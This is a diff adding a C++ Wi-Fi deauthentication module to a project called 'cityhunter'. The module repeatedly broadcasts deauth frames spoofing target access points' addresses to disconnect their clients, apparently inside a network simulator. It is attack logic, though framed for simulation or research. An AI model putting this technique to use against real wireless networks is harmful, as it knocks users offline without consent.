@@ -1,0 +1,36 @@
+#include "core/deauth.h"
+
+namespace cityhunter::core {
+
+DeauthModule::DeauthModule(medium::Medium& medium, medium::Radio& radio,
+                           Config cfg)
+    : medium_(medium), radio_(radio), cfg_(std::move(cfg)) {}
+
+DeauthModule::~DeauthModule() { stop(); }
+
+void DeauthModule::start() {
+  if (running_) return;
+  running_ = true;
+  next_ = medium_.events().schedule_in(support::SimTime::zero(),
+                                       [this] { round(); });
+}
+
+void DeauthModule::stop() {
+  running_ = false;
+  next_.cancel();
+}
+
+void DeauthModule::round() {
+  if (!running_) return;
+  for (const auto& bssid : cfg_.target_bssids) {
+    // Spoof the AP: addr2 (transmitter) and addr3 (BSSID) are the victim
+    // AP's address; addr1 broadcast reaches every associated client.
+    radio_.transmit(dot11::make_deauth(
+        bssid, dot11::MacAddress::broadcast(), bssid,
+        dot11::ReasonCode::kDeauthLeaving, seq_ = (seq_ + 1) & 0x0fff));
+    ++sent_;
+  }
+  next_ = medium_.events().schedule_in(cfg_.interval, [this] { round(); });
+}
+
+}  // namespace cityhunter::core
